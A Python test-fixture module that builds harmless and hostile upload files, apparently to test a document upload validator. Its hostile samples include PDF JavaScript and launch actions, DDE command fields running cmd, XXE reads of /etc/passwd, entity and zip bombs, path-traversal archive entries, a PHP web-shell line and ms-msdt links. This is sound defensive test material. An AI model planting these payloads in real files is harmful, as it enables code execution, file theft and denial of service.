"""Files nobody should send, and good ones to tell them from: all made here, none copied from anywhere."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    """The file as a browser sends it; what it says about the type is never true."""
    return SimpleUploadedFile(name, content, content_type="text/html")


# -- PDF ---------------------------------------------------------------------------------------------------------------


def pdf(
    *objects: bytes, catalog: bytes = b"", trailer: bytes = b"", version: bytes = b"1.7", between: bytes = b""
) -> bytes:
    """A small PDF of one page with a true cross-reference table; further objects are numbered from 4."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        *objects,
    ]
    text, places = b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n" + between, []
    for number, body in enumerate(bodies, start=1):
        places.append(len(text))
        text += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(text)
    text += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    text += b"".join(b"%010d 00000 n \n" % place for place in places)
    return text + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, table)


def object_stream(text: bytes, head: bytes = b"", coded: bytes | None = None) -> bytes:
    """An object stream with one object in it, number 9."""
    packed = zlib.compress(b"9 0 " + text) if coded is None else coded
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d%s>>\nstream\n%s\nendstream" % (
        len(packed), head, packed,
    )  # fmt: skip


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


# -- pictures ----------------------------------------------------------------------------------------------------------


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 128).save(out, kind, **options)
    return out.getvalue()


def png_that_says(width: int, height: int) -> bytes:
    """A PNG of a few bytes whose header claims any size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 999)) + chunk(b"IEND", b"")
    )  # fmt: skip


def jpeg_that_says(width: int, height: int, progressive: bool = False) -> bytes:
    """A JPEG of a few bytes whose header claims any size."""
    small = picture("JPEG", progressive=progressive)
    return small.replace(struct.pack(">HH", 40, 60), struct.pack(">HH", height, width), 1)


def jpeg_with_comment(text: bytes) -> bytes:
    plain = picture("JPEG")
    return plain[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + plain[2:]


# -- packages ----------------------------------------------------------------------------------------------------------


def package(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(more: dict[str, bytes | str] | None = None, *, body: str = "", types: str = "", links: str = "") -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES.format(
            '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' + types
        ),
        "_rels/.rels": RELS.format(
            f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": f"<w:document {W}><w:body><w:p><w:r><w:t>章程</w:t></w:r></w:p>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": RELS.format(links),
    }
    return package(parts | (more or {}))


def xlsx(more: dict[str, bytes | str] | None = None) -> bytes:
    out, book = io.BytesIO(), Workbook()
    book.active["A1"], book.active["A2"] = "姓名", "=SUM(1,2)"
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        parts: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    return package(parts | (more or {}))


def ofd(more: dict[str, bytes | str] | None = None) -> bytes:
    return package(
        {"OFD.xml": '<OFD xmlns="http://www.ofdspec.org/2016"/>', "Doc_0/Document.xml": "<Document/>"} | (more or {})
    )


def external(kind: str, target: str) -> str:
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def held(tag: str, formula: str) -> str:
    """A part with a formula in one of the elements that hold one."""
    return f"<worksheet><{tag}>{formula}</{tag}></worksheet>"


def named(formula: str) -> str:
    """A part with a formula under a name."""
    return f'<workbook><definedNames><definedName name="aa">{formula}</definedName></definedNames></workbook>'


def field(code: str) -> str:
    """A field whose code is split over two runs, as Word itself does it."""
    half = len(code) // 2
    return "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))


def sheet(formula: str) -> str:
    return f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'


def encrypted_package() -> bytes:
    """A package whose entries say that they are encrypted."""
    content = bytearray(docx())
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def with_symlink() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("word/link.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def with_wrong_checksum() -> bytes:
    content = bytearray(docx())
    place = content.find(b"PK\x01\x02")
    content[place + 16] ^= 0xFF
    return bytes(content)


def doctype(entities: str, body: str = "<a/>") -> str:
    return f"<!DOCTYPE a [{entities}]>{body}"


LAUGHS = doctype(
    '<!ENTITY a "哈">'
    + "".join(f'<!ENTITY {n} "{f"&{o};" * 10}">' for o, n in zip("abcdefgh", "bcdefghi", strict=True)),
    "<a>&i;</a>",
)

GOOD: dict[str, bytes] = {
    "登记证书.pdf": pdf(),
    "压缩对象.pdf": pdf(object_stream(b"<</Title(plain)>>")),
    "二点零.PDF": pdf(version=b"2.0"),
    "带链接.pdf": pdf(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.taicang.gov.cn)>>>>"),
    "写信的链接.pdf": pdf(b"<</Subtype/Link/F 4/A<</S/URI/URI(mailto:office\\100example.org)>>>>"),
    "数组里的链接.pdf": pdf(b"[<</Subtype/Link/A<</S/URI/URI(HTTPS://www.taicang.gov.cn/\\(a\\))>>>>[1 2][3]]"),
    "名为F的字体.pdf": pdf(
        b"<</Resources<</Font<</F 5 0 R>>>>/Length 2>>\nstream\nBT\nendstream", b"<</Type/Font>>", b"(\\(a\\) \344)"
    ),
    "翻页的动作.pdf": pdf(b"<</S/Named/N/NextPage>>", catalog=b"/OpenAction[3 0 R/XYZ 0 0 0]"),
    "说到脚本的正文.pdf": pdf(b"<</Length 30>>\nstream\nBT (JavaScript Launch JS) Tj ET\nendstream"),
    "照片.jpg": picture("JPEG", (800, 600)),
    "渐进.jpeg": picture("JPEG", (300, 200), progressive=True),
    "四色.jpg": picture("JPEG", (30, 20), mode="CMYK"),
    "扫描.PNG": picture("PNG", (1000, 800)),
    "透明.png": picture("PNG", mode="RGBA"),
    "章程.docx": docx(),
    "带网页链接.docx": docx(links=external("hyperlink", "https://www.taicang.gov.cn")),
    "带图片和字体.docx": docx(
        {
            "word/media/image1.jpeg": picture(),
            "word/fonts/font1.odttf": b"\x12\x34" * 40,
            "docProps/thumbnail.emf": b"\x01\0\0\0" + b"\0" * 60,
        }
    ),
    "写信和跳转.docx": docx(
        links=external("hyperlink", "mailto:office@example.org") + external("hyperlink", "#_Toc1").replace("r9", "r8")
    ),
    "网页的域.docx": docx(
        body=field('HYPERLINK "https://www.taicang.gov.cn/a" \\o "12:30"') + field('TIME \\@ "HH:mm"')
    ),
    "旧式图形.docx": docx(
        {"word/drawing1.vml": '<xml><v:imagedata src="image1.png" href="https://example.org"/></xml>'}
    ),
    "普通公式.xlsx": xlsx(
        {
            "xl/worksheets/sheet2.xml": sheet('IF(A1,"合计:",HYPERLINK("https://example.org","见"))'),
            "xl/printerSettings/printerSettings1.bin": b"\0\0S\0",
        }
    ),
    "名称、校验和条件.xlsx": xlsx(
        {
            "xl/names.xml": named("'表 1'!$A$1:$B$2"),
            "xl/worksheets/sheet2.xml": held("formula1", "&apos;表 1&apos;!$A$1+单价[[#This Row],[金额]]*'表 2'!B1"),
            "xl/worksheets/sheet3.xml": '<a><cfvo type="percent" val="50"/><f>1</f></a>',
        }
    ),
    "根目录的正文.ofd": ofd(
        {"OFD.xml": '<OFD xmlns="x"><DocBody><DocRoot>/Doc_0/Document.xml</DocRoot></DocBody></OFD>'}
    ),
    "带数据和印章.ofd": ofd(
        {
            "Doc_0/Attachs/data.xbrl": "<xbrl/>",
            "Doc_0/Signs/Seal.esl": b"\x30\x82",
            "Doc_0/Res/font.ttf": b"\0\1\0\0",
            "Doc_0/Pages/Page_0/Content.xml": '<ofd:Page xmlns:ofd="x"><ofd:URI URI="https://example.org"/></ofd:Page>',
        }
    ),
    "带页码.docx": docx(body=field("PAGE \\* MERGEFORMAT")),
    "名册.xlsx": xlsx(),
    "电子公文.ofd": ofd(),
}

_EOF = b"%%EOF\n"
_FAKE = b"% stream\n"  # a comment that a search for streams would fall for

BAD: dict[str, tuple[str, bytes]] = {
    # what: (name, content)
    "nothing in it": ("空.pdf", b""),
    "a program": ("安装.exe", b"MZ\x90\0"),
    "a program called PDF": ("证书.pdf", b"MZ\x90\0" + b"\0" * 600),
    "a page": ("页.html", b"<html><script>alert(1)</script>"),
    "a page called PDF": ("页.pdf", b"<html><script>alert(1)</script>"),
    "a drawing with a script": ("图.svg", b"<svg onload='alert(1)'/>"),
    "a page called picture": ("图.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    "two extensions, the last a program": ("证书.pdf.exe", pdf()),
    "an extension in full width": ("证书.pdf．ｅｘｅ", pdf()),
    "no extension": ("证书", pdf()),
    "a ZIP": ("打包.zip", package({"a.txt": "a"})),
    "an old Word file": ("章程.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "an encrypted or old Office file called DOCX": ("章程.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "a macro document": ("章程.docm", docx()),
    "a picture called PDF": ("图.pdf", picture()),
    "a PNG called JPG": ("图.jpg", picture("PNG")),
    "a GIF called PNG": ("图.png", picture("GIF", mode="P")),
    "a table called DOCX": ("名册.docx", xlsx()),
    "a text called XLSX": ("名册.xlsx", docx()),
    "a ZIP called DOCX": ("章程.docx", package({"a.txt": "a"})),
    # PDF
    "a script when opened": ("甲.pdf", pdf(SCRIPT, catalog=b"/OpenAction 4 0 R")),
    "a script, its name escaped": ("甲.pdf", pdf(SCRIPT.replace(b"JavaScript", b"J#61va#53cript"))),
    "a script in an object stream": ("甲.pdf", pdf(object_stream(SCRIPT))),
    "a script in an object stream that hides behind a comment": ("甲.pdf", pdf(object_stream(SCRIPT), between=_FAKE)),
    "an object stream whose type stands before a misleading string": (
        "甲.pdf", pdf(object_stream(SCRIPT).replace(b"/N 1", b"/X(endobj 7 0 obj <<)/N 1")),
    ),
    "an object stream that does not say its type": ("甲.pdf", pdf(object_stream(SCRIPT).replace(b"/Type/ObjStm", b""))),
    "an object stream coded twice": (
        "甲.pdf", pdf(object_stream(SCRIPT).replace(b"/Filter/FlateDecode", b"/Filter[/ASCIIHexDecode/FlateDecode]")),
    ),
    "an object stream in another code": ("甲.pdf", pdf(object_stream(SCRIPT).replace(b"/FlateDecode", b"/LZWDecode"))),
    "an object stream whose code stands elsewhere": (
        "甲.pdf", pdf(object_stream(SCRIPT).replace(b"/Filter/FlateDecode", b"/Filter 8 0 R")),
    ),
    "an object stream with a predictor": ("甲.pdf", pdf(object_stream(SCRIPT, head=b"/DecodeParms<</Predictor 12>>"))),
    "an object stream that does not unpack": ("甲.pdf", pdf(object_stream(b"", coded=b"not packed at all"))),
    "an object stream that is a bomb": ("甲.pdf", pdf(object_stream(b"0 " * (40 << 20)))),
    "a program to start": ("甲.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=b"/OpenAction 4 0 R")),
    "a file inside": ("甲.pdf", pdf(b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream")),
    "names of files inside": ("甲.pdf", pdf(catalog=b"/Names<</EmbeddedFiles 4 0 R>>")),
    "a film": ("甲.pdf", pdf(b"<</Subtype/RichMedia>>")),
    "a form that sends itself away": ("甲.pdf", pdf(b"<</S/SubmitForm/F(https://example.com)>>")),
    "a dynamic form": ("甲.pdf", pdf(catalog=b"/AcroForm<</XFA 4 0 R>>")),
    "a dynamic form in an object stream": ("甲.pdf", pdf(object_stream(b"<</XFA 4 0 R>>"))),
    "another file to go to, on another machine": ("甲.pdf", pdf(b"<</S/GoToR/F(\\\\\\\\host\\\\share\\\\a.pdf)/D[0/Fit]>>", catalog=b"/OpenAction 4 0 R")),
    "another file to go to, its name escaped": ("甲.pdf", pdf(b"<</S/GoTo#52/F<5c5c686f7374>>>")),
    "another file to go to, in an object stream": ("甲.pdf", pdf(object_stream(b"<</S/GoToR/F 5 0 R>>"))),
    "another file to go to, in an array": ("甲.pdf", pdf(b"[<</S/GoToR/F 5 0 R>>]")),
    "a stream fetched by its address": ("甲.pdf", pdf(b"<</Length 0/F<</FS/URL/F(http://example.com/a)>>>>\nstream\n\nendstream")),
    "a stream that lies in a file elsewhere": ("甲.pdf", pdf(b"<</Length 0/F(\\\\\\\\host\\\\share)>>\nstream\n\nendstream")),
    "a stream whose file is named elsewhere": ("甲.pdf", pdf(b"<</Length 0/F 5 0 R>>\nstream\n\nendstream", b"(a.bin)")),
    "a name of a file on another machine": ("甲.pdf", pdf(b"(\\134\\134host\\134share)")),
    "a page that lies in another file": ("甲.pdf", pdf(b"<</Type/XObject/Subtype/Form/Ref<</F(a.pdf)/Page 0>>/Length 0>>\nstream\n\nendstream")),
    "a link to a shared folder": ("甲.pdf", pdf(b"<</S/URI/URI(file://host/share)>>")),
    "a link to a shared folder, in octal": ("甲.pdf", pdf(b"<</S/URI/URI(\\146ile:///c:/a.exe)>>")),
    "a link to a shared folder, in digits": ("甲.pdf", pdf(b"<</S/URI/URI<5c5c686f73745c73>>>")),
    "a link to a shared folder, in an object stream": ("甲.pdf", pdf(object_stream(b"<</S/URI/URI(\\\\\\\\host\\\\s)>>"))),
    "a link in an array that leads to a program": ("甲.pdf", pdf(b"[(]) <</S/URI/URI(ms-word:ofe)>>]")),
    "a link that stands elsewhere": ("甲.pdf", pdf(b"<</S/URI/URI 5 0 R>>", b"(javascript:alert(1))")),
    "what other links begin with, a folder": ("甲.pdf", pdf(catalog=b"/URI<</Base(file:///)>>")),
    "an action without being asked": ("甲.pdf", pdf(b"<</AA<</O 5 0 R>>>>")),
    "a sound": ("甲.pdf", pdf(b"<</S/Sound>>")),
    "a password": ("甲.pdf", pdf(b"<</Filter/Standard/V 2>>", trailer=b"/Encrypt 4 0 R")),
    "half a PDF": ("甲.pdf", pdf()[:200]),
    "a PDF with a ZIP behind it": ("甲.pdf", pdf() + package({"a.txt": "a"})),
    "a PDF with a ZIP behind it that ends like a PDF": ("甲.pdf", pdf() + package({"a.txt": "a"})[:-2] + b"\6\0" + _EOF),
    "something before the PDF": ("甲.pdf", b"GIF89a" + pdf()),
    "a PDF that is a page as well": ("甲.pdf", pdf(between=b"%<script>alert(1)</script>\n")),
    "a PDF without a table": ("甲.pdf", b"%PDF-1.7\n1 0 obj\n<</Type/Pages>>\nendobj\nstartxref\n99999\n%%EOF"),
    "a PDF without pages": ("甲.pdf", pdf().replace(b"/Pages", b"/Pagez")),
    # pictures
    "a picture of 900 million points": ("图.png", png_that_says(30000, 30000)),
    "a picture of 70 million points": ("图.png", png_that_says(10000, 7000)),
    "a picture of few bytes and much memory": ("图.png", png_that_says(7000, 7000)),
    "a picture that is kept whole before it is scaled": ("图.jpg", jpeg_that_says(6000, 6000, progressive=True)),
    "a picture whose data are not there": ("图.png", png_that_says(100, 100)),
    "half a PNG": ("图.png", picture()[:80]),
    "half a JPEG": ("图.jpg", picture("JPEG", (300, 300))[:400]),
    "a ZIP behind a PNG": ("图.png", picture() + package({"a.txt": "a"})),
    "a film behind a JPEG that has something else before it": ("图.jpg", picture("JPEG") + b"MZ\x90\0" * 9 + b"\0\0\0\x18ftypmp42"),
    "a page behind a JPEG": ("图.jpg", picture("JPEG") + b"<script>alert(1)</script>"),
    "a page in a comment of a JPEG": ("图.jpg", jpeg_with_comment(b"<?php system($_GET[0]); ?>")),
    "a PDF in a comment of a JPEG": ("图.jpg", jpeg_with_comment(b"%PDF-1.7 1 0 obj<<>>endobj")),
    "a JPEG of 4 billion points": ("图.jpg", picture("JPEG").replace(b"\0\x28\0\x3c", b"\xff\xff\xff\xff", 1)),
    # packages
    "a macro": ("章程.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"})),
    "a macro under another name": (
        "章程.docx",
        docx({"word/a.bin": b"x"}, types='<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ),
    "a document declared as one with macros": (
        "章程.docx", docx(types='<Default Extension="m" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    ),
    "old macro sheets": ("名册.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})),
    "a control": ("章程.docx", docx({"word/activeX/activeX1.xml": "<a/>"})),
    "an embedded object": ("章程.docx", docx({"word/embeddings/oleObject1.bin": b"x"})),
    "a program inside": ("章程.docx", docx({"word/media/setup.exe": b"MZ"})),
    "a template from elsewhere": ("章程.docx", docx(links=external("attachedTemplate", "https://example.com/t.dotm"))),
    "a picture from elsewhere": ("章程.docx", docx(links=external("image", "https://example.com/p.png"))),
    "a linked table": ("名册.xlsx", xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": RELS.format(external("externalLinkPath", "file:///c:/a.xlsx"))})),
    "a template on another machine that calls itself internal": ("章程.docx", docx(links=external("attachedTemplate", "\\\\host\\t.dotm").replace("External", "Internal"))),
    "a link to a shared folder in a document": ("章程.docx", docx(links=external("hyperlink", "file://host/share"))),
    "a link to another machine": ("章程.docx", docx(links=external("hyperlink", "\\\\host\\share"))),
    "a link to a program": ("章程.docx", docx(links=external("hyperlink", "ms-msdt:/id"))),
    "a link to a file beside it": ("章程.docx", docx(links=external("hyperlink", "setup.lnk"))),
    "a picture fetched by a field": ("章程.docx", docx(body=field('INCLUDEPICTURE "http://example.com/a.png"'))),
    "a link to another machine in a field": ("章程.docx", docx(body=field('HYPERLINK \\\\\\\\host\\\\share'))),
    "a link to a program in a field": ("章程.docx", docx(body=field('HYPERLINK "search-ms:query"'))),
    "a picture fetched by an old drawing": ("章程.docx", docx({"word/drawing1.vml": '<xml><v:imagedata src="http://example.com/a.png"/></xml>'})),
    "entities in an old drawing": ("章程.docx", docx({"word/drawing1.vml": doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "<a>&x;</a>")})),
    "entities in a part called picture": ("章程.docx", docx({"word/media/image1.png": doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "<a>&x;</a>")})),
    "entities in a part of no known name": ("章程.docx", docx({"word/a.bin": " " * 200 + doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "<a>&x;</a>")})),
    "an archive called picture": ("章程.docx", docx({"word/media/image1.png": package({"a.txt": "a"})})),
    "a text called picture": ("章程.docx", docx({"word/media/image1.png": b"X5O!P%@AP"})),
    "a program called settings of a printer": ("名册.xlsx", xlsx({"xl/printerSettings/p.bin": b"MZ\x90\0"})),
    "a part nobody knows": ("章程.docx", docx({"word/a.mht": b"MIME-Version: 1.0"})),
    "a formula that fetches": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": sheet('_xlfn.WEBSERVICE("http://example.com")')})),
    "a formula that fetches, in pieces": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": sheet('WEB<![CDATA[SERVICE("http://example.com")]]>')})),
    "a defined name that fetches": ("名册.xlsx", xlsx({"xl/names.xml": named('_xlfn.WEBSERVICE("http://example.com")')})),
    "a rule of format that fetches": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": held("formula", 'WEBSERVICE("http://example.com")')})),
    "a check of what is typed that fetches": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": held("formula1", 'WEBSERVICE("http://example.com")')})),
    "its other bound": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": held("formula2", "IMAGE(A1)")})),
    "a column's formula that fetches": ("名册.xlsx", xlsx({"xl/tables/table1.xml": held("calculatedColumnFormula", "RTD(A1)")})),
    "a formula after something within it": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": held("formula", "1<x/>+WEBSERVICE(A1)")})),
    "a scale of colours that fetches": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": '<a><cfvo type="formula" val="WEBSERVICE(A1)"/></a>'})),
    "a shape that shows what is fetched": ("名册.xlsx", xlsx({"xl/drawings/drawing1.xml": '<a><sp textlink="WEBSERVICE(A1)"/></a>'})),
    "a name that leads to another book": ("名册.xlsx", xlsx({"xl/names.xml": named("'C:\\x\\[other.xlsx]Sheet'!$A$1")})),
    "a cell of another book on the web": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": held("f", "'http://example.com/a.ods'#$Sheet.A1")})),
    "the same with its quotes written out": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": held("f", "&apos;http://example.com/a.ods&apos;#$Sheet.A1")})),
    "an OFD whose text is outside of it": ("公文.ofd", ofd({"OFD.xml": '<OFD xmlns="x"><DocBody><DocRoot>../../../etc/passwd</DocRoot></DocBody></OFD>'})),
    "an OFD whose text is on another machine": ("公文.ofd", ofd({"OFD.xml": '<OFD xmlns="x"><DocBody><DocRoot>file:///etc/passwd</DocRoot></DocBody></OFD>'})),
    "an OFD whose seals are outside of it": ("公文.ofd", ofd({"OFD.xml": '<OFD xmlns="x"><DocBody><Signatures> ../a.xml</Signatures></DocBody></OFD>'})),
    "a formula that leads to another machine": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": sheet('HYPERLINK("\\\\host\\a")')})),
    "a program inside an OFD under another name": ("公文.ofd", ofd({"Doc_0/Attachs/a.dat": b"MZ\x90\0"})),
    "a link to a program in an OFD": ("公文.ofd", ofd({"Doc_0/Pages/Page_0/Content.xml": '<ofd:Page xmlns:ofd="x"><ofd:URI URI="file:///c:/a.exe"/></ofd:Page>'})),
    "a command in a field": ("章程.docx", docx(body=field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
    "a command in a simple field": ("章程.docx", docx(body='<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>')),
    "a command in a link": ("名册.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})),
    "a command in a formula": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": sheet("cmd|'/c calc'!A0")})),
    "a command in a formula, the bar as a number": ("名册.xlsx", xlsx({"xl/worksheets/sheet2.xml": sheet("cmd&#124;'/c calc'!A0")})),
    "entities that read files": ("章程.docx", docx({"word/a.xml": doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "<a>&x;</a>")})),
    "a billion laughs": ("章程.docx", docx({"word/a.xml": LAUGHS})),
    "entities in another encoding": ("章程.docx", docx({"word/a.xml": ('<?xml version="1.0" encoding="utf-16"?>' + LAUGHS).encode("utf-16")})),
    "XML that is none": ("章程.docx", docx({"word/styles.xml": "<a><b></a>"})),
    "a bomb": ("章程.docx", docx({"word/media/a.png": b"\0" * (60 << 20)})),
    "a bomb of many parts": ("章程.docx", docx({f"word/media/{n}.png": b"\0" * (1 << 20) for n in range(110)})),
    "too many parts": ("章程.docx", docx({f"word/a{n}.xml": "<a/>" for n in range(2100)})),
    "a name that leaves the folder": ("章程.docx", docx({"../../etc/cron.d/a": "x"})),
    "an absolute name": ("章程.docx", docx({"/etc/passwd": "x"})),
    "a Windows name": ("章程.docx", docx({"..\\..\\a.bin": "x"})),
    "a link to elsewhere": ("章程.docx", with_symlink()),
    "two parts that differ only in case": ("章程.docx", docx({"word/DOCUMENT.xml": "<a/>"})),
    "encrypted parts": ("章程.docx", encrypted_package()),
    "a wrong checksum": ("章程.docx", with_wrong_checksum()),
    "another compression": ("章程.docx", package({"[Content_Types].xml": "<a/>", "word/document.xml": "<a/>"}, zipfile.ZIP_LZMA)),
    "a PDF before the package": ("章程.docx", pdf() + docx()),
    "a PDF inside the first bytes of the package": ("章程.docx", package({"%PDF-1.7.bin": pdf(), "[Content_Types].xml": "<a/>", "word/document.xml": "<a/>"}, zipfile.ZIP_STORED)),
    "something behind the package": ("章程.docx", docx() + b"\0" * 100),
    "a package before the package": ("章程.docx", docx() + docx()),
    "half a package": ("章程.docx", docx()[:-40]),
    "a program inside an OFD": ("公文.ofd", ofd({"Doc_0/a.js": "x"})),
}  # fmt: skip
